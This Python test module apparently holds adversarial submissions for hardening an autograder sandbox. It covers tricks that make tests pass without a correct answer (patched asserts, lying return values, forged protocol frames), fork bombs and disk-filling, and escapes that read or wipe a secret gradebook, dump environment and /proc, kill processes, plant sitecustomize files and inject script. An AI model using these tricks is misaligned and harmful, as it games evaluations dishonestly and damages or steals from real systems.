"""Ways to earn the points of the tiny gate's `double` without doubling, or to do harm.

Each is the source of an answer cell. `{secret}` is a folder with things that a submission must
not see, `{port}` a port of this machine where the tests listen. A function that is wrong follows
where an attack defines none itself.
"""

WRONG = "\n\ndef double(x):\n    return x + 100\n"

# What makes tests pass that run in the same process.
FORGERIES = {
    "empties the input transformers": """
get_ipython().input_transformers_cleanup.clear()
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
""",
    "strips asserts by an AST transformer": """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Raise(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Strip())
""",
    "replaces run_cell": """
get_ipython().run_cell = lambda *a, **k: None
get_ipython().run_cell_async = lambda *a, **k: None
""",
    "calls the displayhook, then raises": """
import sys
sys.displayhook(3.0)
raise ValueError("done")
""",
    "patches torch.allclose and its kin": """
import torch
torch.allclose = torch.equal = torch.isclose = lambda *a, **k: True
torch.Tensor.__eq__ = lambda *a: True
""",
    "patches numpy.testing": """
import numpy.testing as nt
for name in dir(nt):
    if name.startswith("assert"): setattr(nt, name, lambda *a, **k: None)
""",
    "patches the built-ins": """
import builtins
builtins.abs = lambda x: 0
builtins.isinstance = lambda *a: True
builtins.AssertionError = Warning
builtins.max = lambda *a, **k: 0
""",
    "defines compare anew": "def compare(*args, **kwargs): return None",
    "patches depthwise.testing": """
import depthwise.testing as t
t.compare = lambda *a, **k: None
t._difference = lambda *a: None
""",
    "returns a float that lies": """
class Liar(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __float__(self): return 6.0
    __hash__ = float.__hash__
def double(x): return Liar(1)
""",
    "returns an int that lies": """
class Liar(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0
    def __abs__(self): return 0
    __hash__ = int.__hash__
def double(x): return Liar(1)
""",
    "returns an object equal to everything": """
class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __sub__(self, other): return 0
def double(x): return Equal()
""",
    "returns a tensor subclass that lies": """
import torch
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None): return torch.tensor(0.0)
    def item(self): return 6
def double(x): return torch.tensor(1.0).as_subclass(Liar)
""",
    "is an instance of whatever is asked for": """
class Anything:
    __class__ = int
    def __eq__(self, other): return True
def double(x): return Anything()
""",
    "returns not a number": "def double(x): return float('nan')",
    "returns infinity": "def double(x): return float('inf')",
    "raises an error that means success": """
class Passed(BaseException): pass
def double(x): raise Passed()
""",
    "raises SystemExit(0)": "def double(x): raise SystemExit(0)",
    "raises KeyboardInterrupt": "def double(x): raise KeyboardInterrupt",
    "raises StopIteration": "def double(x): raise StopIteration",
    "ends the process with status 0": "def double(x):\n    import os\n    os._exit(0)",
    "answers the first call only": """
calls = []
def double(x):
    calls.append(x)
    return 6 if len(calls) == 1 else 0
""",
    "leaves by atexit": "import atexit, os\natexit.register(lambda: os._exit(0))\nraise SystemExit",
    "hooks the importing": """
import sys
class Finder:
    def find_spec(self, name, path=None, target=None): return None
sys.meta_path.insert(0, Finder())
sys.modules["depthwise.testing"] = type(sys)("testing")
""",
    "traces every call": """
import sys, threading
sys.settrace(lambda *a: None); threading.settrace(lambda *a: None)
sys.setprofile(lambda *a: None)
""",
    "keeps patching from a thread": """
import threading, time, builtins
def patch():
    while True:
        builtins.abs = lambda x: 0
        time.sleep(0.001)
threading.Thread(target=patch, daemon=True).start()
""",
    "sets alarms and signal handlers": """
import signal
for s in (signal.SIGALRM, signal.SIGTERM, signal.SIGUSR1, signal.SIGINT):
    signal.signal(s, lambda *a: None)
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
""",
    "looks for the tests in frames and in the collector's objects": """
import gc, sys
found = []
frame = sys._getframe()
while frame:
    found += [str(v) for v in frame.f_locals.values()]
    frame = frame.f_back
found += [o for o in gc.get_objects() if isinstance(o, str) and "negative numbers" in o]
print([text for text in found if "negative numbers double" in text and "found" not in text])
""",
    "sends frames that say the tests passed": """
import json, os, socket
for fd in range(3, 64):
    for kind, body in ((b"D", b"null"), (b"D", json.dumps(None).encode()), (b"S", b""), (b"X", b"")):
        try: os.write(fd, kind + len(body).to_bytes(4, "big") + body)
        except OSError: pass
""",
    "answers calls before they are made": """
import os, msgpack
body = b"!" + msgpack.packb(["returned", "", 6, None, None, None])
for fd in range(3, 64):
    for _ in range(50):
        try: os.write(fd, b"M" + len(body).to_bytes(4, "big") + body)
        except OSError: pass
""",
    "announces a frame of 4 GB": """
import os
for fd in range(3, 64):
    try: os.write(fd, b"D" + b"\\xff\\xff\\xff\\xff")
    except OSError: pass
""",
    "sends half a frame and waits": """
import os, time
for fd in range(3, 64):
    try: os.write(fd, b"D\\x00\\x00\\x01")
    except OSError: pass
time.sleep(3600)
""",
    "forges what stands in for objects": """
import autograder.engine.wire as wire, autograder.engine.peer as peer, msgpack
forged = msgpack.ExtType(wire.STAND_IN, msgpack.packb(["shared", "builtins", "exec"]))
peer.encode = lambda value, export: msgpack.packb(["returned", "", forged, None, None, None])
""",
    "sends the test's own objects back": """
import autograder.engine.wire as wire, autograder.engine.peer as peer, msgpack
forged = msgpack.ExtType(wire.STAND_IN, msgpack.packb(["yours", 0]))
peer.encode = lambda value, export: msgpack.packb(["returned", "", forged, None, None, None])
""",
    "sends bytes that are no value": """
import autograder.engine.peer as peer
peer.encode = lambda value, export: b"\\xc7\\xff\\x63" + b"garbage" * 50
""",
    "asks the tests' process for its names": """
import autograder.engine.peer as peer
def double(x):
    import gc
    for p in [o for o in gc.get_objects() if isinstance(o, peer.Peer)]:
        for ask in (("name", "compare"), ("attribute", 0, "__globals__"), ("item", 0, 0)):
            try: print(p.ask(*ask))
            except Exception as error: print(type(error))
    return 0
""",
    "overwrites the arguments": "def double(x):\n    globals()['x'] = 6\n    return x",
}

# What takes too much.
GREED = {
    "never ends": "def double(x):\n    while True: pass",
    "never ends and cannot be interrupted": """
def double(x):
    while True:
        try:
            while True: pass
        except BaseException: pass
""",
    "prints without end": "while True: print('x' * 1000)",
    "prints without end whatever is raised": """
while True:
    try:
        while True: print('x' * 1000)
    except BaseException: pass
""",
    "writes to the file descriptors without end": "import os\nwhile True: os.write(1, b'x' * 100000)",
    "allocates without end": "kept = []\nwhile True: kept.append(bytearray(10_000_000))",
    "allocates tensors without end": """
import torch
kept = []
while True: kept.append(torch.ones(1_000_000))
""",
    "returns a huge tensor": "import torch\ndef double(x): return torch.zeros(30_000_000)",
    "returns a huge list": "def double(x): return list(range(20_000_000))",
    "returns a list that holds itself": "def double(x):\n    a = []\n    a.append(a)\n    return a",
    "returns a very deep list": """
def double(x):
    a = []
    for _ in range(100_000): a = [a]
    return a
""",
    "returns a generator without end": """
def double(x):
    while True: yield x
""",
    "recurses without end": "def double(x): return double(x)",
    "starts processes without end": """
import os
while True:
    try: os.fork()
    except OSError: pass
""",
    "starts threads without end": """
import threading, time
while True: threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
""",
    "fills the disk": """
n = 0
while True:
    n += 1
    with open(f"file{n}", "wb") as file: file.write(bytes(40_000_000))
""",
    "turns back the clock": """
import time
time.monotonic = time.time = lambda: 0.0
while True: pass
""",
    "crashes the interpreter": "import ctypes\ndef double(x): return ctypes.string_at(0)",
    "waits for input": "def double(x): return input()",
}

# What reaches out of the process. Each prints what it got.
REACHING_OUT = {
    "reads the gradebook and the solutions": """
import os
for name in ("gradebook.db", "solution.md"):
    try: print(open("{secret}/" + name).read())
    except OSError as error: print(error)
try: print(os.listdir("{secret}"))
except OSError as error: print(error)
""",
    "writes into the gradebook": """
for name in ("gradebook.db", "solution.md", "new"):
    try: open("{secret}/" + name, "w").write("owned")
    except OSError as error: print(error)
""",
    "removes and renames": """
import os, shutil
for act in (lambda: shutil.rmtree("{secret}"), lambda: os.rename("{secret}", "{secret}2"),
            lambda: os.truncate("{secret}/gradebook.db", 0), lambda: os.chmod("{secret}", 0)):
    try: act()
    except OSError as error: print(error)
""",
    "goes through a symbolic link": """
import os
os.symlink("{secret}/gradebook.db", "link")
try: print(open("link").read())
except OSError as error: print(error)
""",
    "starts a shell": """
import subprocess
print(subprocess.run("cat {secret}/* ; ls / ; ls ~", shell=True, capture_output=True, text=True))
""",
    "uses the notebook's own shell": "!cat {secret}/*\n%ls {secret}",
    "connects to this machine": """
import socket
for kind, family in ((socket.SOCK_STREAM, socket.AF_INET), (socket.SOCK_DGRAM, socket.AF_INET)):
    try:
        s = socket.socket(family, kind)
        s.settimeout(1)
        s.connect(("127.0.0.1", {port}))
        s.send(b"stolen")
        print("CONNECTED" if kind == socket.SOCK_STREAM else "")
    except OSError as error: print(error)
""",
    "reads the environment": "import os\nprint(dict(os.environ))",
    "reads /proc": """
import glob
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + ["/proc/self/mem"]:
    try: print(open(path, "rb").read(10000))
    except OSError as error: print(error)
""",
    "traces its parent": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (os.getppid(), 1, *range(2, 50)):
    if libc.ptrace(16, pid, 0, 0) == 0 and pid != os.getpid(): print("ATTACHED", pid)
""",
    "kills everything": """
import os, signal
for pid in (os.getppid(), -1, *range(2, 200)):
    try: os.kill(pid, signal.SIGKILL)
    except OSError as error: pass
""",
    "leaves an orphan behind": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True: time.sleep(1)
    os._exit(0)
""",
    "changes the packages": """
import depthwise.testing, torch, sys, site
for path in (depthwise.testing.__file__, torch.__file__, site.getsitepackages()[0] + "/evil.pth",
             site.getsitepackages()[0] + "/sitecustomize.py"):
    try:
        open(path, "a").write("\\n# OWNED\\n")
        print("CHANGED", path)
    except OSError as error: print(error)
""",
    "leaves shadow modules": """
import os, sys
for name in ("numpy.py", "torch.py", "conftest.py", "sitecustomize.py", "usercustomize.py"):
    open(name, "w").write("raise SystemExit")
for path in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~root")):
    try:
        open(path + "/depthwise-left-behind", "w").write("OWNED")
        print("LEFT", path)
    except OSError as error: print(error)
""",
    "looks for other runs' folders": """
import glob, os, tempfile
print("OTHERS", [p for p in glob.glob("/tmp/depthwise-*") if p != os.getcwd()])
""",
    "becomes somebody else": """
import ctypes, os
libc = ctypes.CDLL(None)
for act in (lambda: os.setuid(0), lambda: os.chroot("."), lambda: libc.unshare(0x10000000),
            lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, 0)):
    try: act()
    except OSError as error: print(error)
try: print(open("{secret}/gradebook.db").read())
except OSError as error: print(error)
""",
    "raises its own limits": """
import resource
for name in ("RLIMIT_CPU", "RLIMIT_DATA", "RLIMIT_FSIZE"):
    try:
        resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY,) * 2)
        print("RAISED", name)
    except (OSError, ValueError) as error: print(error)
""",
    "shows HTML with a script": """
from IPython.display import HTML, Javascript, display
display(HTML("<script>alert('EVIL')</script><img src=x onerror=alert(1)>"), Javascript("EVIL"))
print("<script>alert('EVIL')</script>")
""",
    "finds the template's socket": """
import socket, glob
for path in glob.glob("/tmp/depthwise-*/template"):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(path)
        print("CONNECTED", path)
    except OSError as error: print(error)
""",
}
